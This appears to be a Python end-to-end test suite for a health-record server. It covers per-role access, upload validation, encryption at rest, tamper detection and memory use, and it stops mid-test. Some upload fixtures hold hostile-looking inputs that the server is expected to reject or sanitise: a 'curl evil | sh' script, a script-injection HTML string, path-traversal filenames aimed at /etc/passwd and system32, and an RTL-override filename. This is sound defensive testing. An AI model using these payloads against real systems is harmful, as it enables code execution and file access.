"""Health record end to end against the real server: the access matrix, upload edge cases,
encryption at rest, tampering, memory, and LGPD export/erasure."""

from __future__ import annotations

import hashlib
import os
import re
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.e2e._accounts import (
    PASSWORD,
    bearer,
    login_doctor,
    login_patient,
    register_doctor,
    register_patient,
)
from tests.support import RedisServer, ServerProcess, free_port, timeout

PDF = b"%PDF-1.7\n" + b"ECG: sinus rhythm, 72 bpm; patient reports chest pain\n" * 400
SMALL_LIMIT = 256 * 1024
BOUNDARY = "healthmed-test-boundary"


def iso(delta: timedelta) -> str:
    return (datetime.now(UTC) + delta).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def multipart(*parts: tuple[str, str | None, bytes]) -> bytes:
    """A multipart/form-data body from (name, filename or None, content) parts."""
    out = []
    for name, filename, content in parts:
        disposition = f'form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        out.append(
            f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n\r\n".encode()
            + content
            + b"\r\n"
        )
    return b"".join(out) + f"--{BOUNDARY}--\r\n".encode()


def form_headers(auth: dict[str, str]) -> dict[str, str]:
    return {**auth, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


def upload(
    http: httpx.Client,
    auth: dict[str, str],
    content: bytes,
    *,
    filename: str = "exam.pdf",
    kind: str = "exam",
    group: str | None = None,
    title: str | None = None,
    declared: str = "application/pdf",
) -> httpx.Response:
    data = {"kind": kind}
    if group is not None:
        data["group"] = group
    if title is not None:
        data["title"] = title
    return http.post(
        "/v1/me/records", headers=auth, data=data, files={"file": (filename, content, declared)}
    )


def blob_files(server: ServerProcess) -> dict[Path, bytes]:
    root = server.data_dir / "blobs"
    return {p: p.read_bytes() for p in root.rglob("*") if p.is_file() and ".tmp" not in p.parts}


@dataclass
class Cast:
    """Everyone in the access matrix, and the owner's records and shares."""

    owner: dict[str, str]
    owner_id: str
    other: dict[str, str]
    doctors: dict[str, tuple[str, dict[str, str]]]
    record: dict[str, Any]
    derm_record: dict[str, Any]
    share_id: str
    bystander_id: str
    """A doctor outside the matrix: the target of shares the matrix itself creates."""

    def auth(self, actor: str) -> dict[str, str]:
        if actor == "owner":
            return self.owner
        if actor == "other_patient":
            return self.other
        if actor == "anonymous":
            return {}
        return self.doctors[actor][1]


DOCTORS = ["doctor_active", "doctor_none", "doctor_expired", "doctor_revoked", "doctor_other_group"]
ACTORS = ["owner", "other_patient", *DOCTORS, "anonymous"]


@pytest.fixture(scope="module")
def http_module(server: ServerProcess) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url, timeout=timeout(60)) as client:
        yield client


@pytest.fixture(scope="module")
def cast(http_module: httpx.Client) -> Cast:
    http = http_module
    base = int(time.time() * 1000) % 10**9 * 10
    owner_profile = register_patient(http, base + 1)
    owner = bearer(login_patient(http, owner_profile))
    other = bearer(login_patient(http, register_patient(http, base + 2)))
    doctors: dict[str, tuple[str, dict[str, str]]] = {}
    for i, name in enumerate(DOCTORS):
        profile = register_doctor(http, base + 10 + i)
        doctors[name] = (profile["id"], bearer(login_doctor(http, profile)))
    bystander_id = register_doctor(http, base + 9)["id"]

    def share(doctor: str, expires: timedelta, **body: Any) -> str:
        r = http.post(
            "/v1/me/shares",
            headers=owner,
            json={"doctor_id": doctors[doctor][0], "expires_at": iso(expires), **body},
        )
        assert r.status_code == 201, r.text
        return str(r.json()["id"])

    # The active doctor's share is by group and made before the record: it must cover
    # records added to the group later.
    share_id = share("doctor_active", timedelta(days=30), groups=["cardio-2026"])
    r = upload(http, owner, PDF, filename="ecg-owner.pdf", group="cardio-2026", title="ECG secret")
    assert r.status_code == 201, r.text
    record = r.json()
    r = upload(http, owner, b"%PDF-1.4 derm\n", filename="derm.pdf", group="derm")
    assert r.status_code == 201, r.text
    derm_record = r.json()
    expiry = timedelta(seconds=timeout(2))
    expired_at = time.monotonic() + expiry.total_seconds()
    share("doctor_expired", expiry, record_ids=[record["id"]])
    revoked = share("doctor_revoked", timedelta(days=1), record_ids=[record["id"]])
    share("doctor_other_group", timedelta(days=1), groups=["derm"])
    # Before expiry and revocation the shares work: what follows is caused by them.
    for doctor in ("doctor_expired", "doctor_revoked"):
        r = http.get(f"/v1/patients/{owner_profile['id']}/records", headers=doctors[doctor][1])
        assert r.status_code == 200, r.text
        assert [x["id"] for x in r.json()["items"]] == [record["id"]]
    assert http.delete(f"/v1/me/shares/{revoked}", headers=owner).status_code == 204
    time.sleep(max(0.0, expired_at - time.monotonic()) + 0.2)
    return Cast(
        owner=owner,
        owner_id=owner_profile["id"],
        other=other,
        doctors=doctors,
        record=record,
        derm_record=derm_record,
        share_id=share_id,
        bystander_id=bystander_id,
    )


# -- the access matrix --------------------------------------------------------------------------


def patient_route(owner: int, other: int) -> dict[str, int]:
    return {"owner": owner, "other_patient": other, **dict.fromkeys(DOCTORS, 403), "anonymous": 401}


def doctor_route(**doctors: int) -> dict[str, int]:
    return {"owner": 403, "other_patient": 403, **doctors, "anonymous": 401}


EXPECTED: dict[str, dict[str, int]] = {
    "upload": patient_route(201, 201),
    "list_records": patient_route(200, 200),
    "get_record": patient_route(200, 404),
    "record_content": patient_route(200, 404),
    "delete_record": patient_route(204, 404),
    "access_log": patient_route(200, 200),
    "create_share": patient_route(201, 422),
    "list_shares": patient_route(200, 200),
    "revoke_share": patient_route(204, 404),
    "doctor_list": doctor_route(
        doctor_active=200,
        doctor_none=404,
        doctor_expired=404,
        doctor_revoked=404,
        doctor_other_group=200,
    ),
    "doctor_content": doctor_route(
        doctor_active=200,
        doctor_none=404,
        doctor_expired=404,
        doctor_revoked=404,
        doctor_other_group=404,
    ),
}


def call(http: httpx.Client, cast: Cast, route: str, actor: str) -> httpx.Response:
    """One request of ``route`` by ``actor``. Destructive routes by the owner act on a fresh
    record or share, so the matrix can run in any order; everyone else targets the owner's."""
    auth = cast.auth(actor)
    record_id = cast.record["id"]
    match route:
        case "upload":
            return upload(http, auth, b"%PDF-1.4 matrix\n", filename="matrix.pdf")
        case "list_records":
            return http.get("/v1/me/records", headers=auth)
        case "get_record":
            return http.get(f"/v1/me/records/{record_id}", headers=auth)
        case "record_content":
            return http.get(f"/v1/me/records/{record_id}/content", headers=auth)
        case "delete_record":
            if actor == "owner":
                r = upload(http, auth, b"%PDF-1.4 disposable\n", filename="disposable.pdf")
                record_id = r.json()["id"]
            return http.delete(f"/v1/me/records/{record_id}", headers=auth)
        case "access_log":
            return http.get("/v1/me/records/access-log", headers=auth)
        case "create_share":
            body = {
                "doctor_id": cast.bystander_id,
                "record_ids": [record_id],
                "expires_at": iso(timedelta(minutes=1)),
            }
            return http.post("/v1/me/shares", headers=auth, json=body)
        case "list_shares":
            return http.get("/v1/me/shares", headers=auth)
        case "revoke_share":
            share_id = cast.share_id
            if actor == "owner":
                r = http.post(
                    "/v1/me/shares",
                    headers=auth,
                    json={
                        "doctor_id": cast.bystander_id,
                        "groups": ["nothing-here"],
                        "expires_at": iso(timedelta(minutes=1)),
                    },
                )
                share_id = r.json()["id"]
            return http.delete(f"/v1/me/shares/{share_id}", headers=auth)
        case "doctor_list":
            return http.get(f"/v1/patients/{cast.owner_id}/records", headers=auth)
        case "doctor_content":
            return http.get(
                f"/v1/patients/{cast.owner_id}/records/{record_id}/content", headers=auth
            )
    raise AssertionError(route)


MATRIX = [
    pytest.param(route, actor, EXPECTED[route][actor], id=f"{route}-{actor}")
    for route in EXPECTED
    for actor in ACTORS
]


@pytest.mark.parametrize(("route", "actor", "status"), MATRIX)
def test_access_matrix(
    http_module: httpx.Client, cast: Cast, route: str, actor: str, status: int
) -> None:
    """Every records and shares route answers each kind of caller with exactly one status,
    and nobody but the owner (and a doctor the record is shared with) sees its metadata."""
    r = call(http_module, cast, route, actor)
    assert r.status_code == status, r.text
    if status >= 400:
        assert r.headers["content-type"].startswith("application/problem+json")
        assert r.json()["code"]
    sees_record = actor == "owner" or (
        actor == "doctor_active" and route in ("doctor_list", "doctor_content")
    )
    if not sees_record:
        secret = cast.record
        for value in (secret["id"], secret["filename"], secret["title"], secret["sha256"]):
            assert value not in r.text
    if route == "doctor_list" and status == 200:
        ids = [item["id"] for item in r.json()["items"]]
        if actor == "doctor_active":
            assert ids == [cast.record["id"]]
        else:
            assert ids == [cast.derm_record["id"]]


def test_not_covered_looks_exactly_like_nonexistent(http_module: httpx.Client, cast: Cast) -> None:
    """A doctor gets the same 404 body for a record not shared, a record that does not exist,
    and a patient that does not exist; another patient likewise for metadata."""
    http, owner_id = http_module, cast.owner_id
    auth = cast.auth("doctor_none")
    bodies = [
        http.get(f"/v1/patients/{owner_id}/records/{cast.record['id']}/content", headers=auth),
        http.get(
            f"/v1/patients/{owner_id}/records/01ARZ3NDEKTSV4RRFFQ69G5FAV/content", headers=auth
        ),
        http.get(
            f"/v1/patients/01ARZ3NDEKTSV4RRFFQ69G5FAV/records/{cast.record['id']}/content",
            headers=auth,
        ),
    ]
    assert {r.status_code for r in bodies} == {404}
    assert len({r.content for r in bodies}) == 1
    lists = [
        http.get(f"/v1/patients/{owner_id}/records", headers=auth),
        http.get("/v1/patients/01ARZ3NDEKTSV4RRFFQ69G5FAV/records", headers=auth),
    ]
    assert [r.status_code for r in lists] == [404, 404]
    assert lists[0].content == lists[1].content
    other = cast.auth("other_patient")
    metadata = [
        http.get(f"/v1/me/records/{cast.record['id']}", headers=other),
        http.get("/v1/me/records/01ARZ3NDEKTSV4RRFFQ69G5FAV", headers=other),
    ]
    assert [r.status_code for r in metadata] == [404, 404]
    assert metadata[0].content == metadata[1].content


def test_doctor_reads_appear_in_the_access_log(http_module: httpx.Client, cast: Cast) -> None:
    """The active doctor's list and download are logged; refused attempts are not."""
    http, owner_id, record_id = http_module, cast.owner_id, cast.record["id"]

    def log() -> list[dict[str, Any]]:
        r = http.get("/v1/me/records/access-log?limit=100", headers=cast.owner)
        return list(r.json()["items"])

    before = log()
    for refused in ("doctor_none", "doctor_expired", "doctor_revoked", "doctor_other_group"):
        auth = cast.auth(refused)
        http.get(f"/v1/patients/{owner_id}/records/{record_id}/content", headers=auth)
    assert log() == before
    doctor_id, auth = cast.doctors["doctor_active"]
    assert http.get(f"/v1/patients/{owner_id}/records", headers=auth).status_code == 200
    r = http.get(f"/v1/patients/{owner_id}/records/{record_id}/content", headers=auth)
    assert r.status_code == 200
    assert r.content == PDF
    assert r.headers["content-disposition"].startswith("attachment;")
    new = log()[: -len(before) or None]
    assert [(e["record_id"], e["doctor_id"], e["action"]) for e in new] == [
        (record_id, doctor_id, "download"),
        (record_id, doctor_id, "list"),
    ]
    assert all(e["at"].endswith("Z") for e in new)


def test_shares_list_reports_active(http_module: httpx.Client, cast: Cast) -> None:
    """The owner's shares carry `active`: false once expired or revoked."""
    shares = http_module.get("/v1/me/shares?limit=100", headers=cast.owner).json()["items"]
    by_doctor = {s["doctor_id"]: s["active"] for s in shares}
    assert by_doctor[cast.doctors["doctor_active"][0]] is True
    assert by_doctor[cast.doctors["doctor_expired"][0]] is False
    assert by_doctor[cast.doctors["doctor_revoked"][0]] is False
    assert by_doctor[cast.doctors["doctor_other_group"][0]] is True


# -- upload edge cases (a server with a small limit) -------------------------------------------


@pytest.fixture(scope="module")
def small_server(
    module_redis: RedisServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ServerProcess]:
    proc = ServerProcess(
        port=free_port(),
        data_dir=Path(tmp_path_factory.mktemp("small-server")),
        env={
            "HEALTHMED_REDIS_URL": module_redis.url,
            "HEALTHMED_ENV": "test",
            "HEALTHMED_RECORD_MAX_BYTES": str(SMALL_LIMIT),
        },
    ).start()
    yield proc
    proc.stop()


@pytest.fixture(scope="module")
def small(small_server: ServerProcess) -> Iterator[tuple[httpx.Client, dict[str, str]]]:
    with httpx.Client(base_url=small_server.url, timeout=timeout(60)) as http:
        n = int(time.time() * 1000) % 10**9 * 10 + 7
        yield http, bearer(login_patient(http, register_patient(http, n)))


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 4000
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode" * 50
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + os.urandom(2000)
GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + os.urandom(2000)


@pytest.mark.parametrize(
    ("content", "filename", "declared"),
    [
        pytest.param(ELF, "scan.pdf", "application/pdf", id="elf-named-pdf"),
        pytest.param(PE, "exam.pdf", "application/pdf", id="exe-named-pdf"),
        pytest.param(PE, "setup.exe", "application/octet-stream", id="exe"),
        pytest.param(ZIP, "xray.png", "image/png", id="zip-named-png"),
        pytest.param(GZIP, "report.txt", "text/plain", id="gzip-named-txt"),
        pytest.param(b"#!/bin/sh\ncurl evil | sh\n", "notes.txt", "text/plain", id="shell-script"),
        pytest.param(b"<html><script>alert(1)</script></html>", "r.txt", "text/plain", id="html"),
        pytest.param(
            PE[:128] + b"DICM" + b"\x00" * 200,
            "ct.dcm",
            "application/dicom",
            id="pe-dicom-polyglot",
        ),
        pytest.param(b"notes\n" * 2000 + ELF, "notes.txt", "text/plain", id="text-then-binary"),
        pytest.param(os.urandom(5000), "photo.jpg", "image/jpeg", id="random-bytes-named-jpg"),
    ],
)
def test_disguised_executables_and_archives_are_refused(
    small: tuple[httpx.Client, dict[str, str]],
    small_server: ServerProcess,
    content: bytes,
    filename: str,
    declared: str,
) -> None:
    """Type comes from the bytes: a disguised file is 415 and nothing is stored."""
    http, auth = small
    before = blob_files(small_server)
    r = upload(http, auth, content, filename=filename, declared=declared)
    assert r.status_code == 415, r.text
    assert r.json()["code"] == "unsupported_media_type"
    assert blob_files(small_server) == before


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        pytest.param(PDF, "application/pdf", id="pdf"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + os.urandom(3000), "image/png", id="png"),
        pytest.param(b"\xff\xd8\xff\xe0" + os.urandom(3000), "image/jpeg", id="jpeg"),
        pytest.param(b"\x00" * 128 + b"DICM" + os.urandom(3000), "application/dicom", id="dicom"),
        pytest.param(
            "Glicemia: 92 mg/dL ✓\n".encode() * 50, "text/plain; charset=utf-8", id="text"
        ),
    ],
)
def test_accepted_types_round_trip(
    small: tuple[httpx.Client, dict[str, str]], content: bytes, content_type: str
) -> None:
    """Each accepted type is stored with its recognised type and downloads byte for byte."""
    http, auth = small
    r = upload(http, auth, content, filename="file.bin", declared="application/octet-stream")
    assert r.status_code == 201, r.text
    info = r.json()
    assert info["content_type"] == content_type
    assert info["size"] == len(content)
    assert info["sha256"] == hashlib.sha256(content).hexdigest()
    got = http.get(f"/v1/me/records/{info['id']}/content", headers=auth)
    assert got.status_code == 200
    assert got.content == content
    assert got.headers["content-type"].replace(" ", "") == content_type.replace(" ", "")
    assert got.headers["x-content-type-options"] == "nosniff"


def test_empty_file_is_422(small: tuple[httpx.Client, dict[str, str]]) -> None:
    """An empty file is invalid input, not an unsupported type."""
    http, auth = small
    r = upload(http, auth, b"")
    assert r.status_code == 422, r.text
    assert r.json()["code"] == "empty_file"


def test_exactly_at_the_limit_is_accepted_and_one_byte_more_is_413(
    small: tuple[httpx.Client, dict[str, str]], small_server: ServerProcess
) -> None:
    """HEALTHMED_RECORD_MAX_BYTES is inclusive; one byte over is 413 and nothing is kept."""
    http, auth = small
    at_limit = b"%PDF-" + b"x" * (SMALL_LIMIT - 5)
    r = upload(http, auth, at_limit)
    assert r.status_code == 201, r.text
    assert r.json()["size"] == SMALL_LIMIT
    before = blob_files(small_server)
    r = upload(http, auth, at_limit + b"x")
    assert r.status_code == 413, r.text
    assert r.json()["code"] == "record_too_large"
    assert blob_files(small_server) == before
    assert list((small_server.data_dir / "blobs" / ".tmp").iterdir()) == []


def test_far_over_the_limit_without_content_length_is_413(
    small: tuple[httpx.Client, dict[str, str]], small_server: ServerProcess
) -> None:
    """A chunked body (no Content-Length) is cut off at the limit, not read to the end."""
    http, auth = small

    def body() -> Iterator[bytes]:
        yield multipart(("kind", None, b"exam"))[: -len(BOUNDARY) - 6]
        yield f"--{BOUNDARY}\r\n".encode()
        yield b'Content-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-'
        for _ in range(40 * SMALL_LIMIT // 65536):
            yield b"y" * 65536
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    before = blob_files(small_server)
    try:
        r = http.post("/v1/me/records", headers=form_headers(auth), content=body())
    except httpx.TransportError:  # the server may close the connection while we still send
        pass
    else:
        assert r.status_code == 413, r.text
    assert blob_files(small_server) == before


def test_a_file_in_many_tiny_pieces_is_reassembled(
    small: tuple[httpx.Client, dict[str, str]],
) -> None:
    """The streaming parser copes with a body that arrives a few bytes at a time."""
    http, auth = small
    content = b"%PDF-1.4\n" + os.urandom(20_000)
    body = multipart(("kind", None, b"report"), ("file", "tiny.pdf", content))
    pieces = (body[i : i + 7] for i in range(0, len(body), 7))
    r = http.post("/v1/me/records", headers=form_headers(auth), content=pieces)
    assert r.status_code == 201, r.text
    assert r.json()["sha256"] == hashlib.sha256(content).hexdigest()


def test_fields_may_follow_the_file(small: tuple[httpx.Client, dict[str, str]]) -> None:
    """kind, group and title after the file part are honoured."""
    http, auth = small
    body = multipart(
        ("file", "later.pdf", b"%PDF-1.4 later\n"),
        ("kind", None, b"prescription"),
        ("group", None, b"Receitas"),
        ("title", None, "Receita de março".encode()),
    )
    r = http.post("/v1/me/records", headers=form_headers(auth), content=body)
    assert r.status_code == 201, r.text
    info = r.json()
    assert (info["kind"], info["group"], info["title"]) == (
        "prescription",
        "receitas",
        "Receita de março",
    )


@pytest.mark.parametrize(
    ("parts", "code"),
    [
        pytest.param(
            [("kind", None, b"exam"), ("x", None, b"1"), ("file", "a.pdf", b"%PDF-a")],
            "unknown_field",
            id="unknown-field",
        ),
        pytest.param(
            [("kind", None, b"exam"), ("file", "a.pdf", b"%PDF-a"), ("file", "b.pdf", b"%PDF-b")],
            "duplicate_field",
            id="two-files",
        ),
        pytest.param(
            [("kind", None, b"exam"), ("kind", None, b"report"), ("file", "a.pdf", b"%PDF-a")],
            "duplicate_field",
            id="two-kinds",
        ),
        pytest.param([("kind", None, b"exam")], "file_missing", id="no-file"),
        pytest.param([("file", "a.pdf", b"%PDF-a")], "invalid_kind", id="no-kind"),
        pytest.param(
            [("kind", None, b"exam"), ("group", None, b"g" * 2000), ("file", "a.pdf", b"%PDF-")],
            "field_too_long",
            id="huge-field",
        ),
    ],
)
def test_malformed_forms_are_422(
    small: tuple[httpx.Client, dict[str, str]],
    parts: list[tuple[str, str | None, bytes]],
    code: str,
) -> None:
    """Unknown, repeated, missing or oversized fields are 422 with a precise code."""
    http, auth = small
    r = http.post("/v1/me/records", headers=form_headers(auth), content=multipart(*parts))
    assert r.status_code == 422, r.text
    assert r.json()["code"] == code


@pytest.mark.parametrize(
    ("extra", "code"),
    [
        pytest.param(("title", None, b"t"), "duplicate_field", id="repeated-field"),
        pytest.param(("file", "more.pdf", b"%PDF-more"), "duplicate_field", id="repeated-file"),
        pytest.param(("x", None, b""), "unknown_field", id="unknown-fields"),
    ],
)
def test_many_parts_are_refused_at_the_first_excess_part(
    small: tuple[httpx.Client, dict[str, str]],
    small_server: ServerProcess,
    extra: tuple[str, str | None, bytes],
    code: str,
) -> None:
    """Each field may appear once, so a body of 500 parts is 422 at the first part too many
    and leaves nothing stored."""
    http, auth = small
    before = blob_files(small_server)
    parts = [("kind", None, b"exam"), ("title", None, b"t"), ("file", "a.pdf", b"%PDF-1.4\n")]
    r = http.post(
        "/v1/me/records", headers=form_headers(auth), content=multipart(*parts, *[extra] * 500)
    )
    assert r.status_code == 422, r.text
    assert r.json()["code"] == code
    assert blob_files(small_server) == before


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        pytest.param(b'{"kind": "exam"}', "application/json", id="json"),
        pytest.param(b"kind=exam", "application/x-www-form-urlencoded", id="urlencoded"),
        pytest.param(b"garbage", "multipart/form-data", id="no-boundary"),
        pytest.param(
            b"garbage without boundaries", f"multipart/form-data; boundary={BOUNDARY}", id="garbage"
        ),
        pytest.param(
            multipart(("kind", None, b"exam"))[:-10],
            f"multipart/form-data; boundary={BOUNDARY}",
            id="truncated",
        ),
    ],
)
def test_non_multipart_bodies_are_client_errors(
    small: tuple[httpx.Client, dict[str, str]], body: bytes, content_type: str
) -> None:
    """A body that is not a well-formed multipart form is a 4xx, never a 500."""
    http, auth = small
    r = http.post("/v1/me/records", headers={**auth, "Content-Type": content_type}, content=body)
    assert r.status_code in (415, 422), r.text


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        pytest.param("../../../../etc/passwd", "passwd.pdf", id="dotdot"),
        pytest.param("..\\..\\windows\\system32\\evil.pdf", "evil.pdf", id="backslashes"),
        pytest.param("/absolute/path/exam.pdf", "exam.pdf", id="absolute"),
        pytest.param("..", "record.pdf", id="only-dots"),
        # The served extension is the detected type's (issue 14, finding 7).
        pytest.param("exam\u202eFDP.exe", "examFDP.pdf", id="rtl-override"),
        pytest.param(".hidden.pdf", "hidden.pdf", id="leading-dot"),
    ],
)
def test_the_file_name_is_metadata_never_a_path(
    small: tuple[httpx.Client, dict[str, str]],
    small_server: ServerProcess,
    raw: str,
    expected: str,
) -> None:
    """Path components and control characters are stripped; nothing lands outside the blob
    directory and no stored file carries the client's name."""
    http, auth = small
    r = upload(http, auth, b"%PDF-1.4 path\n", filename=raw)
    assert r.status_code == 201, r.text
    assert r.json()["filename"] == expected
    names = {p.name for p in small_server.data_dir.rglob("*")}
    assert "passwd" not in names
    assert "evil.pdf" not in names
    assert not any(name.endswith(".pdf") for name in names)
    got = http.get(f"/v1/me/records/{r.json()['id']}/content", headers=auth)
    assert "/" not in got.headers["content-disposition"].split("filename*=")[0]


def test_a_very_long_file_name_is_cut_keeping_its_extension(
    small: tuple[httpx.Client, dict[str, str]],
) -> None:
    """A 1000-character name is stored as at most 255 characters ending in its extension;
    a name too long for a part header is a 422, not a crash."""
    http, auth = small
    r = upload(http, auth, b"%PDF-1.4 long\n", filename="a" * 1000 + ".pdf")
    assert r.status_code == 201, r.text
    name = r.json()["filename"]
    assert len(name) == 255
    assert name.endswith(".pdf")
    r = upload(http, auth, b"%PDF-1.4 long\n", filename="b" * 10_000 + ".pdf")
    assert r.status_code == 422, r.text


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        pytest.param("selfie", "invalid_kind", id="unknown"),
        pytest.param("", "invalid_kind", id="empty"),
        pytest.param("EXAM", "invalid_kind", id="uppercase"),
    ],
)
def test_a_bad_kind_is_422(
    small: tuple[httpx.Client, dict[str, str]], small_server: ServerProcess, kind: str, code: str
) -> None:
    """kind must be one of the six values; nothing is stored otherwise."""
    http, auth = small
    before = blob_files(small_server)
    r = upload(http, auth, PDF, kind=kind)
    assert r.status_code == 422, r.text
    assert r.json()["code"] == code
    assert blob_files(small_server) == before


def test_bad_group_and_list_filters_are_422(small: tuple[httpx.Client, dict[str, str]]) -> None:
    """Group labels and list filters are validated (422), including a forged cursor."""
    http, auth = small
    assert upload(http, auth, PDF, group="no spaces").status_code == 422
    assert upload(http, auth, PDF, group="../up").status_code == 422
    assert http.get("/v1/me/records?kind=nope", headers=auth).status_code == 422
    assert http.get("/v1/me/records?limit=0", headers=auth).status_code == 422
    assert http.get("/v1/me/records?limit=101", headers=auth).status_code == 422
    assert http.get("/v1/me/records?cursor=%%%", headers=auth).status_code == 422


def test_a_client_that_disconnects_mid_upload_leaves_nothing(
    small: tuple[httpx.Client, dict[str, str]], small_server: ServerProcess
) -> None:
    """The partial blob of an abandoned upload is deleted; no record appears."""
    http, auth = small
    before = blob_files(small_server)
    records_before = http.get("/v1/me/records?limit=100", headers=auth).json()["items"]
    head = (
        multipart(("kind", None, b"exam"))[: -len(BOUNDARY) - 6]
        + (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n'
        ).encode()
    )
    request = (
        b"POST /v1/me/records HTTP/1.1\r\nHost: test\r\n"
        + f"Authorization: {auth['Authorization']}\r\n".encode()
        + f"Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n".encode()
        + f"Content-Length: {SMALL_LIMIT}\r\n\r\n".encode()
        + head
        + b"%PDF-"
        + b"z" * (SMALL_LIMIT // 2)
    )
    tmp = small_server.data_dir / "blobs" / ".tmp"
    with socket.create_connection(("127.0.0.1", small_server.port)) as sock:
        sock.sendall(request)
        deadline = time.monotonic() + timeout(10)
        while not list(tmp.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert list(tmp.iterdir()), "the partial blob was being written"
    deadline = time.monotonic() + timeout(10)
    while list(tmp.iterdir()) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert list(tmp.iterdir()) == []
    assert blob_files(small_server) == before
    assert http.get("/v1/me/records?limit=100", headers=auth).json()["items"] == records_before


# -- encryption at rest ------------------------------------------------------------------------


def test_stored_blobs_hold_no_plaintext_and_differ_for_the_same_file(
    http: httpx.Client, server: ServerProcess, unique: Callable[[], int]
) -> None:
    """The blob directory never contains the plaintext, and one file uploaded twice gives two
    unrelated ciphertexts."""
    auth = bearer(login_patient(http, register_patient(http, unique())))
    secret = b"%PDF-1.4\nDIAGNOSIS: CONFIDENTIAL-MARKER-7f3a\n" * 300
    before = set(blob_files(server))
    ids = [upload(http, auth, secret).json()["id"] for _ in range(2)]
    new = {p: data for p, data in blob_files(server).items() if p not in before}
    assert len(new) == 2
    for data in new.values():
        assert b"CONFIDENTIAL-MARKER" not in data
        assert b"DIAGNOSIS" not in data
        assert len(data) > len(secret)
    first, second = new.values()
    assert first != second
    assert first[64:4096] != second[64:4096]
    for record_id in ids:
        assert http.get(f"/v1/me/records/{record_id}/content", headers=auth).content == secret
    assert list((server.data_dir / "tmp").iterdir()) == []


def test_a_flipped_byte_fails_cleanly_with_nothing_served(
    http: httpx.Client, server: ServerProcess, unique: Callable[[], int]
) -> None:
    """Tampering with a stored blob gives a 500 problem `record_integrity_error` to owner and
    doctor alike, with no byte of the record, and the failed doctor read is not logged."""
    auth = bearer(login_patient(http, register_patient(http, unique())))
    patient_id = http.get("/v1/me", headers=auth).json()["id"]
    doctor = register_doctor(http, unique())
    doctor_auth = bearer(login_doctor(http, doctor))
    content = b"%PDF-1.4\n" + b"TAMPER-CANARY " * 20_000  # several segments
    before = set(blob_files(server))
    info = upload(http, auth, content).json()
    (path,) = [p for p in blob_files(server) if p not in before]
    r = http.post(
        "/v1/me/shares",
        headers=auth,
        json={
            "doctor_id": doctor["id"],
            "record_ids": [info["id"]],
            "expires_at": iso(timedelta(days=1)),
        },
    )
    assert r.status_code == 201
    blob = bytearray(path.read_bytes())
    blob[len(blob) - 40] ^= 0x01  # in the last segment: a naive stream would have sent 99%
    path.write_bytes(bytes(blob))
    for url, who in (
        (f"/v1/me/records/{info['id']}/content", auth),
        (f"/v1/patients/{patient_id}/records/{info['id']}/content", doctor_auth),
    ):
        r = http.get(url, headers=who)
        assert r.status_code == 500
        assert r.headers["content-type"].startswith("application/problem+json")
        assert r.json()["code"] == "record_integrity_error"
        assert b"TAMPER-CANARY" not in r.content
    assert http.get("/v1/me/records/access-log", headers=auth).json()["items"] == []
    assert "TAMPER-CANARY" not in server.logs()


# -- memory --------------------------------------------------------------------------------------

CHUNK = 64 * 1024


def _status_kib(pid: int, key: str) -> int:
    match = re.search(rf"^{key}:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text(), re.M)
    assert match is not None
    return int(match.group(1))


def _reset_peak(pid: int) -> int:
    """Reset the process's peak RSS (VmHWM) to its current RSS; return that value (KiB)."""
    Path(f"/proc/{pid}/clear_refs").write_text("5")
    return _status_kib(pid, "VmHWM")


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="needs Linux /proc")
def test_a_max_size_upload_and_download_keep_peak_memory_flat(
    http: httpx.Client, server: ServerProcess, unique: Callable[[], int]
) -> None:
    """Uploading and downloading a file of the maximum size (20 MiB) raises the server's peak
    RSS by less than 8 chunks of 64 KiB plus 2 MiB of slack (measured: see the report)."""
    assert server.proc is not None
    pid = server.proc.pid
    auth = bearer(login_patient(http, register_patient(http, unique())))
    max_bytes = 20 * 1024 * 1024

    def body(size: int) -> Iterator[bytes]:
        yield (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nexam\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            'filename="max.pdf"\r\n\r\n%PDF-'
        ).encode()
        block, left = os.urandom(CHUNK), size - 5
        while left > 0:
            yield block[: min(left, CHUNK)]
            left -= CHUNK
        yield f"\r\n--{BOUNDARY}--\r\n".encode()

    # Warm up every code path first (imports, thread pool, the allocator's first arenas: a
    # one-time 0.5-2.5 MiB whatever the size). A server that buffered whole files would still
    # grow by the 16 MiB difference between the warm-up and the measured upload.
    for size in (256 * 1024, 4 * 1024 * 1024):
        warm = http.post("/v1/me/records", headers=form_headers(auth), content=body(size))
        assert warm.status_code == 201
        http.get(f"/v1/me/records/{warm.json()['id']}/content", headers=auth)

    bound = 8 * CHUNK // 1024 + 2048
    base = _reset_peak(pid)
    r = http.post("/v1/me/records", headers=form_headers(auth), content=body(max_bytes))
    assert r.status_code == 201, r.text
    assert r.json()["size"] == max_bytes
    upload_growth = _status_kib(pid, "VmHWM") - base

    base = _reset_peak(pid)
    with http.stream("GET", f"/v1/me/records/{r.json()['id']}/content", headers=auth) as got:
        received = sum(len(piece) for piece in got.iter_bytes())
    download_growth = _status_kib(pid, "VmHWM") - base
